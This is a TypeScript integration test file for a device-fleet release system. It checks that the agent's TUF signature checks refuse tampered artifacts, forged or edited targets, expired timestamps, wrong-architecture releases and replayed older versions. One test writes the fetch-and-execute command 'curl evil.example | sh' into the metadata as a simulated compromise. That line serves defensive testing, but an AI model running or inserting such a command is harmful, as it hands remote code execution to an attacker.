/**
 * Signed releases end to end, the refusals by the agent's TUF checks (split from releases.test.ts so
 * the two run side by side): real coordinator, CLI and agent processes. Every refusal must
 * happen before the agent activates anything (and, where the artifact is not at fault, before it
 * downloads anything): the tests check the steps the device reported and its staging directory.
 */
import { execFileSync } from "node:child_process";
import { readFile, writeFile } from "node:fs/promises";
import { Metadata, MetadataKind, MetaFile, Signature, Snapshot, Timestamp, type Targets } from "@tufjs/models";
import { loadIdentity, tufKeyId, type Identity } from "@flotilla/protocol";
import { join } from "node:path";
import { freePort, waitFor } from "@flotilla/protocol/testing";
import { describe, expect, it } from "vitest";
import {
  artifact,
  bundleAgent,
  bundleTarball,
  createRelease,
  deviceReleases,
  pinnedRootVersion,
  served,
  serverFlags,
  sha256,
  signedFleet,
  stagedFiles as staged,
  stepNames as names,
  tufDir,
  waitForEnd,
} from "./support/releases.ts";
import { useSandbox } from "./support/use-sandbox.ts";

const sb = useSandbox();

describe("releases verified by the agent: tampered, expired, rotated, foreign and replayed metadata", () => {
  it("refuses an artifact altered in the coordinator's store after signing, before activating it", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path, data } = await artifact(dir, "app.tar.gz", 100_000);
    await createRelease(fleet, path, "app", "1.0.0");
    const stored = join(fleet.dataDir, "artifacts", "sha256", sha256(data));
    const altered = Buffer.from(data);
    altered[500] = altered[500]! ^ 0xff;
    await writeFile(stored, altered);

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    const failed = steps.at(-1)!;
    expect(failed.step).toBe("failed");
    expect(failed.error).toContain(`does not match its signed sha256: expected ${sha256(data)}, got ${sha256(altered)}`);
    expect(names(steps)).not.toContain("activating");
    expect(await staged(stateDir)).toEqual([]);
    expect((await deviceReleases(fleet, name)).releases[0]?.current).toBeNull();
  });

  it("refuses targets metadata edited in the coordinator's data directory, before downloading", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "app.tar.gz", 10_000);
    await createRelease(fleet, path, "app", "1.0.0");
    // A compromised coordinator changes what the release runs.
    const file = join(await tufDir(fleet), "2.targets.json");
    const text = await readFile(file, "utf8");
    expect(text).toContain('"run": "bin/app"');
    await writeFile(file, text.replace('"run": "bin/app"', '"run": "curl evil.example | sh"'));

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/signed metadata check failed: .*targets was signed by 0\/1 keys/);
    expect(await staged(stateDir)).toEqual([]);
  });

  it("refuses targets signed by a key outside the threshold, even with snapshot and timestamp re-signed by the coordinator's key", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "app.tar.gz", 10_000);
    await createRelease(fleet, path, "app", "1.0.0");

    // A compromised coordinator holds its online key, but no admin's: it signs new targets with
    // a key of its own and publishes them with a fresh snapshot and timestamp.
    const repo = await tufDir(fleet);
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "outsider")]);
    const outsider = await loadIdentity(join(dir, "outsider"));
    const onlineKey = await loadIdentity(join(fleet.dataDir, "online.key"));
    const signWith = (md: Metadata<Targets | Snapshot | Timestamp>, id: Identity) =>
      md.sign((data) => new Signature({ keyID: tufKeyId(id.publicKey), sig: Buffer.from(id.sign(data)).toString("hex") }));
    const targets = Metadata.fromJSON(MetadataKind.Targets, JSON.parse(await readFile(join(repo, "2.targets.json"), "utf8")));
    const forged = Metadata.fromJSON(MetadataKind.Targets, {
      signed: { ...targets.signed.toJSON(), version: 3 },
      signatures: [],
    } as never);
    signWith(forged, outsider);
    const expires = new Date(Date.now() + 3_600_000).toISOString().replace(/\.\d{3}Z$/, "Z");
    const snapshot = new Metadata(new Snapshot({ version: 3, specVersion: "1.0.31", expires, meta: { "targets.json": new MetaFile({ version: 3 }) } }));
    signWith(snapshot, onlineKey);
    const timestamp = new Metadata(new Timestamp({ version: 100, specVersion: "1.0.31", expires, snapshotMeta: new MetaFile({ version: 3 }) }));
    signWith(timestamp, onlineKey);
    await writeFile(join(repo, "3.targets.json"), JSON.stringify(forged.toJSON()));
    await writeFile(join(repo, "3.snapshot.json"), JSON.stringify(snapshot.toJSON()));
    await writeFile(join(repo, "timestamp.json"), JSON.stringify(timestamp.toJSON()));

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/signed metadata check failed: .*targets was signed by 0\/1 keys/);
    expect(await staged(stateDir)).toEqual([]);
  });

  it("follows a root rotation: releases signed by the new threshold install", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    expect(await waitFor("the agent to pin the organization's root", () => pinnedRootVersion(stateDir).catch(() => undefined))).toBe(1);
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "second")]);
    const owner = join(fleet.adminHome, "admin.key");
    const rotate = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "second"), "--threshold", "2"]);
    expect(rotate.code, rotate.stderr).toBe(0);
    const port = await freePort();
    const { path } = await bundleTarball(dir, "app.tar.gz", { port });
    await createRelease(fleet, path, "app", "1.0.0", [...serverFlags(port), "--key-file", owner, "--key-file", join(dir, "second")]);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app.tar.gz")).at(-1)!.step).toBe("healthy");
    expect(await served(port)).toBe("1.0.0");
    expect(await pinnedRootVersion(stateDir)).toBe(2);
  });

  it("installs a release signed before a rotation that removed its signing key: the rotation re-signed the targets under the new root", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    expect(await waitFor("the agent to pin the organization's root", () => pinnedRootVersion(stateDir).catch(() => undefined))).toBe(1);
    const port = await freePort();
    const { path } = await bundleTarball(dir, "app.tar.gz", { port });
    await createRelease(fleet, path, "app", "1.0.0", serverFlags(port));
    // The owner's key, which signed the release, is replaced by a new one.
    const owner = join(fleet.adminHome, "admin.key");
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "second")]);
    const rotate = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "second"), "--remove", tufKeyId((await loadIdentity(owner)).publicKey)]);
    expect(rotate.code, rotate.stderr).toBe(0);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect((await waitForEnd(fleet, name, "app/1/app.tar.gz")).at(-1)!.step).toBe("healthy");
    expect(await served(port)).toBe("1.0.0");
    expect(await pinnedRootVersion(stateDir)).toBe(2);
  });

  it("refuses expired timestamp metadata before downloading, and installs when deployed again once it is fresh", async () => {
    const fleet = await signedFleet(sb, ["--tuf-timestamp-ttl-ms", "4000", "--tuf-refresh-ms", "3600000"]);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    const timestamp = JSON.parse(await readFile(join(await tufDir(fleet), "timestamp.json"), "utf8")) as { signed: { expires: string } };
    await waitFor("the timestamp to expire", () => Date.now() > Date.parse(timestamp.signed.expires) + 1000, 20_000);

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/timestamp.*expired|Expired/);
    expect(await staged(stateDir)).toEqual([]);

    // A restarted coordinator re-signs the timestamp; deploying the same release again retries it.
    // It restarts with the default lifetime: a 4 s one could lapse again while the agent is still
    // backing off from the restart, and that would test the machine's speed, not the refusal.
    await fleet.coordinator.stop();
    await fleet.startCoordinator(["--tuf-refresh-ms", "3600000"]);
    const again = await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    expect(again.code, again.stderr).toBe(0);
    await waitFor("the redeployed release to be healthy", async () =>
      (await deviceReleases(fleet, name)).steps.some((s) => s.step === "healthy"), 60_000, 250);
    expect(await served(port)).toBe("1.0.0");
  }, 180_000);

  it("refuses a release for another architecture, before downloading", async () => {
    const fleet = await signedFleet(sb);
    const { name, stateDir } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const { path } = await artifact(dir, "app.tar.gz", 10_000);
    await createRelease(fleet, path, "app", "1.0.0", ["--arch", "riscv64"]);
    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toMatch(/is for riscv64, not /);
    expect(await staged(stateDir)).toEqual([]);
  });

  it("refuses a replayed older release once a newer one runs", async () => {
    const fleet = await signedFleet(sb);
    const { name } = await bundleAgent(fleet, sb);
    const dir = await sb.dir();
    const port = await freePort();
    await createRelease(fleet, (await bundleTarball(dir, "app-1.tar.gz", { port })).path, "app", "1.0.0", serverFlags(port));
    await createRelease(fleet, (await bundleTarball(dir, "app-2.tar.gz", { port })).path, "app", "2.0.0", serverFlags(port));
    await fleet.admin(["device", "deploy", name, "app@2.0.0"]);
    expect((await waitForEnd(fleet, name, "app/2/app-2.tar.gz")).at(-1)!.step).toBe("healthy");

    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
    const steps = await waitForEnd(fleet, name, "app/1/app-1.tar.gz");
    expect(names(steps)).toEqual(["checking", "failed"]);
    expect(steps[1]!.error).toContain("refusing app 1.0.0 (#1): lower than the installed 2.0.0 (#2)");
    expect((await deviceReleases(fleet, name)).releases[0]?.current).toEqual({ version: "2.0.0", counter: 2 });
    expect(await served(port)).toBe("2.0.0");
  });

});
